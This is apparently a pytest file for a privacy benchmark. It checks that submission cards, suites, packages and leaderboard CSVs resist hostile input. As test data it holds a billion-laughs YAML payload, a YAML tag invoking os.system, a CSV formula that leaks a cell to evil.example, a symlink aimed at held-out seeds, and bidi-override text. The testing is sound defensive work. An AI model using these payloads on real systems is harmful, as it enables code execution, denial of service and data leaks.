"""Trusted-side parsing of untrusted submission input: cards and suites through the one strict YAML loader, no
symlink in a package submission, text release metadata kept as text, unmeasured claims never "within CI", and
formula text from a card inert in the leaderboard's CSV."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from privbench.core.errors import InputError
from privbench.submit.card import AdmissionError, load_card

ROOT = Path(__file__).resolve().parent.parent

CARD = """\
name: Test entry
authors: [A. Author]
url: https://example.org
threat_models: [observer]
defenses:
  - id: d
"""

#: Defense params of nested aliases in under 700 bytes: nine levels of nine, 9**9 = 387 million strings once the
#: params are copied or serialised.
BILLION_LAUGHS = CARD + '    params:\n      l0: &a0 [' + ", ".join(['"lol"'] * 9) + ']\n' + \
    "".join(f"      l{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 9))


def _write(tmp_path: Path, text: str, name: str = "card.yaml") -> Path:
    path = tmp_path / name
    path.write_text(text)
    return path


def test_a_billion_laughs_card_is_refused_at_once_naming_file_and_line(tmp_path) -> None:
    path = _write(tmp_path, BILLION_LAUGHS)
    assert 600 < len(BILLION_LAUGHS) < 800
    start = time.perf_counter()
    with pytest.raises(AdmissionError) as e:
        load_card(path)
    assert time.perf_counter() - start < 0.5
    assert str(e.value).startswith(f"card {path}, line 8, column 11: anchor &a0 is not allowed")


@pytest.mark.parametrize("extra,message", [
    ('x: !!python/object/apply:os.system ["echo pwned"]\n', "line 7, column 4: explicit tag "
                                                           "'tag:yaml.org,2002:python/object/apply:os.system'"),
    ("x: !!python/object:privbench.submit.submission.Card {}\n", "explicit tag 'tag:yaml.org,2002:python/object:"),
    ("x: !local 1\n", "explicit tag '!local' is not allowed"),
    ("x: !!str 1\n", "explicit tag 'tag:yaml.org,2002:str' is not allowed"),
    ("x: *nowhere\n", "alias \\*nowhere is not allowed"),
    ("name: Other entry\n", "line 7, column 1: duplicate key 'name'"),
    ("x: {<<: {a: 1}}\n", "merge key << is not allowed"),
    ("x: " + "[" * 100 + "]" * 100 + "\n", "nesting deeper than 32 levels"),
    ("x: [1\n", "line 8, column 1: .*expected ',' or ']'"),
])
def test_cards_hold_plain_data_only(tmp_path, extra, message) -> None:
    path = _write(tmp_path, CARD + extra)
    with pytest.raises(AdmissionError, match=f"^card {path}, {message}" if message.startswith("line") else message):
        load_card(path)


def test_an_oversized_card_is_refused_before_parsing(tmp_path) -> None:
    path = _write(tmp_path, CARD + "# padding\n" * 7000)
    with pytest.raises(AdmissionError, match=f"card {path}: larger than the limit of 65536 bytes"):
        load_card(path)


def test_a_card_that_is_not_utf8_names_its_line(tmp_path) -> None:
    path = tmp_path / "card.yaml"
    path.write_bytes(CARD.encode() + b"x: \xff\n")
    with pytest.raises(AdmissionError, match="line 7: not UTF-8 text"):
        load_card(path)


def test_suites_go_through_the_same_loader(tmp_path) -> None:
    from privbench.run.config import load_suite

    path = _write(tmp_path, "name: s\ndatasets: &d [digits]\nseeds: [0]\n", "suite.yaml")
    with pytest.raises(InputError, match=f"^{path}, line 2, column 11: anchor &d is not allowed"):
        load_suite(path)


def test_every_committed_suite_and_card_still_loads() -> None:
    import yaml

    from privbench.core.yamlsafe import SUITE_MAX_BYTES, load_file

    files = sorted((ROOT / "benchmark" / "suites").glob("*.yaml")) + sorted(ROOT.glob("submissions/*/suite.yaml"))
    assert len(files) >= 7
    for path in files:
        assert load_file(path, max_bytes=SUITE_MAX_BYTES) == yaml.safe_load(path.read_text()), path
    cards = sorted(ROOT.glob("examples/*/card.yaml")) + sorted(ROOT.glob("submissions/*/card.yaml"))
    assert cards
    for path in cards:
        assert load_card(path).name


def test_text_release_metadata_is_kept_as_text_and_the_cell_record_validates() -> None:
    import json

    from privbench.core.records import iter_records, validate
    from privbench.run.scoring import release_extra

    numbers, texts = release_extra({"self_reported_accountant": "rdp", "noise_multiplier": 1.5, "steps": 3,
                                    "unknown": None, "grid": [1, 2]})
    assert numbers == {"noise_multiplier": 1.5, "steps": 3.0, "unknown": None}
    assert texts == {"release.self_reported_accountant": "rdp", "release.grid": "[1, 2]"}
    _, record = next((p, r) for p, r in iter_records(ROOT / "leaderboards" / "quick" / "records")
                     if r["status"] == "ok")
    record = json.loads(json.dumps(record))
    record["metrics"]["release"].update(numbers)
    record["notes"].update(texts)
    validate(record, "cell with a self-reported accountant")  # an ok cell, not a failed one


def _summary_row(**leakage: dict) -> dict:
    return {"defense": "d", "params": {}, "config": "d", "dataset": "digits", "seeds": [0, 1, 2],
            "utility": {"mean": 0.5, "lo": 0.4, "hi": 0.6, "seeds": 3}, "leakage": leakage}


def test_a_claim_on_an_unmeasured_threat_model_reads_not_measured(tmp_path) -> None:
    from privbench.submit.claimcheck import check_claims
    from privbench.submit.leaderboard import claims_flag

    observer = {"status": "ok", "title": "", "interval": {"mean": 0.3, "lo": 0.2, "hi": 0.4, "seeds": 3}}
    row = _summary_row(observer=observer, linker={"status": "not applicable", "title": "", "interval": None})
    card = load_card(_write(tmp_path, CARD + "    claimed: {utility: 0.5, leakage: {observer: 0.3, linker: 0.1}}\n"))
    claims = check_claims(card, [{}], [row])
    by = {c["quantity"]: c for c in claims}
    assert by["leakage:linker"]["measured"] is None and by["leakage:linker"]["outside"] is None
    assert by["leakage:linker"]["note"] == "not measured (no attack of this threat model ran)"
    assert by["utility"]["outside"] is False and by["leakage:observer"]["outside"] is False
    assert claims_flag(claims) == "not measured: leakage:linker"
    assert claims_flag([by["utility"], by["leakage:observer"]]) == "claims within CI"
    assert claims_flag([]) == ""

    no_utility = check_claims(card, [{}], [{**row, "utility": None}])
    assert [c["note"] for c in no_utility if c["quantity"] == "utility"] == ["not measured (no utility was measured)"]
    nothing_ran = check_claims(card, [{}], [])
    assert len(nothing_ran) == 3 and all(c["note"].startswith("not measured") for c in nothing_ran)

    failed = {**observer, "status": "attack failed"}
    (c,) = [c for c in check_claims(card, [{}], [_summary_row(observer=failed)]) if c["quantity"] == "leakage:observer"]
    assert claims_flag([c]) == "not established: leakage:observer (attack failed)"


def _crafted_entries(tmp_path: Path, edit) -> Path:
    """A copy of the committed submission.json, changed by ``edit(entry)``, in its own directory tree."""
    import json

    entry = json.loads((ROOT / "submissions" / "noisy-blend" / "submission.json").read_text())
    edit(entry)
    path = tmp_path / "subs" / "crafted" / "submission.json"
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps(entry))
    return tmp_path / "subs"


def test_the_leaderboard_never_says_within_ci_for_an_unmeasured_claim(tmp_path) -> None:
    from privbench.submit.leaderboard import build

    def edit(entry: dict) -> None:
        entry["claims"] = [{"defense": "noisy-blend", "config": "noisy-blend alpha=0.8", "dataset": "mnist5k",
                            "quantity": "leakage:server", "claimed": 0.0, "measured": None, "status": None,
                            "outside": None, "optimistic": False, "note": "not measured (no attack of this threat "
                            "model ran)"}]

    build(_crafted_entries(tmp_path, edit), tmp_path / "board")
    md = (tmp_path / "board" / "submissions.md").read_text()
    (row,) = [line for line in md.splitlines() if "noisy-blend alpha=0.8" in line]
    assert "| not measured: leakage:server |" in row
    assert "within CI" not in md + (tmp_path / "board" / "submissions-mnist5k.csv").read_text()


def _package(tmp_path: Path) -> Path:
    pkg = tmp_path / "pkg"
    (pkg / "sub").mkdir(parents=True)
    (pkg / "__init__.py").write_text("from . import sub\n")
    (pkg / "sub" / "__init__.py").write_text("")
    return pkg


@pytest.mark.parametrize("make_link", ["file", "directory", "dangling"])
def test_a_package_with_a_symlink_is_refused_naming_the_link_before_anything_is_copied(tmp_path, make_link) -> None:
    import os

    from privbench.submit.admission import snapshot, source_files, source_hash

    secret = tmp_path / "outside"
    secret.mkdir()
    (secret / "heldout-seeds.txt").write_text("1234\n")
    pkg = _package(tmp_path)
    assert [p.relative_to(pkg).as_posix() for p in source_files(pkg)] == ["__init__.py", "sub/__init__.py"]
    target = {"file": secret / "heldout-seeds.txt", "directory": secret, "dangling": tmp_path / "gone"}[make_link]
    os.symlink(target, pkg / "sub" / "data")
    message = f"{pkg}: sub/data is a symbolic link \\(to '{target}'\\); a package submission holds regular files"
    for check in (source_files, source_hash):
        with pytest.raises(AdmissionError, match=message):
            check(pkg)
    dest = tmp_path / "snapshot"
    with pytest.raises(AdmissionError, match=message):
        snapshot(pkg, dest)
    assert not dest.exists()


def test_a_package_with_a_fifo_is_refused(tmp_path) -> None:
    import os

    from privbench.submit.admission import source_files

    pkg = _package(tmp_path)
    os.mkfifo(pkg / "pipe")
    with pytest.raises(AdmissionError, match=f"{pkg}: pipe is not a regular file"):
        source_files(pkg)


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


def test_formula_text_from_a_card_reaches_the_leaderboard_csv_inert(tmp_path) -> None:
    import csv

    from privbench.submit.leaderboard import build

    def edit(entry: dict) -> None:
        entry["card"]["name"] = FORMULA
        for row in entry["public"]["summary"]:
            if row["defense"] == "noisy-blend":
                row["config"] = "@SUM(A1:A9) " + row["config"]

    build(_crafted_entries(tmp_path, edit), tmp_path / "board")
    rows = list(csv.DictReader((tmp_path / "board" / "submissions-mnist5k.csv").open()))
    mine = [r for r in rows if r["entry"] != "published baseline"]
    assert len(mine) == 2 and all(r["entry"] == "'" + FORMULA for r in mine)
    assert all(r["defense"].startswith("'@SUM(A1:A9) noisy-blend") for r in mine)
    assert "-0.009" in {r["drop"] for r in rows}  # a plain negative number stays a number
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())


def test_a_malformed_submission_entry_is_named_not_a_traceback(tmp_path) -> None:
    """Red-team round 2 (low): a hand-edited claim crashed `leaderboard build` with a ValueError."""
    import subprocess
    import sys

    root = Path(__file__).resolve().parent.parent
    entry = json.loads((root / "submissions" / "noisy-blend" / "submission.json").read_text())
    entry["claims"][0]["claimed"] = "x"
    (tmp_path / "e").mkdir()
    (tmp_path / "e" / "submission.json").write_text(json.dumps(entry))
    r = subprocess.run([sys.executable, "-m", "privbench", "leaderboard", "build", str(tmp_path), "--out",
                        str(tmp_path / "out")], cwd=root, capture_output=True, text=True, timeout=120)
    assert r.returncode == 2 and "submission.json: malformed submission entry" in r.stderr, r.stderr
    assert "Traceback" not in r.stderr and not (tmp_path / "out").exists()


def test_untrusted_text_cannot_print_a_line_or_reorder_one() -> None:
    """Red-team round 2 (low): a child's error text with a newline printed a forged 'admitted:' line; bidi
    overrides reorder what a console shows."""
    from privbench.core.textsafe import one_line, printable

    assert one_line("boom\nadmitted: all checks passed") == "boom ⏎ admitted: all checks passed"
    assert printable("evil\u202egnp.exe\u2066") == "evil?gnp.exe?"
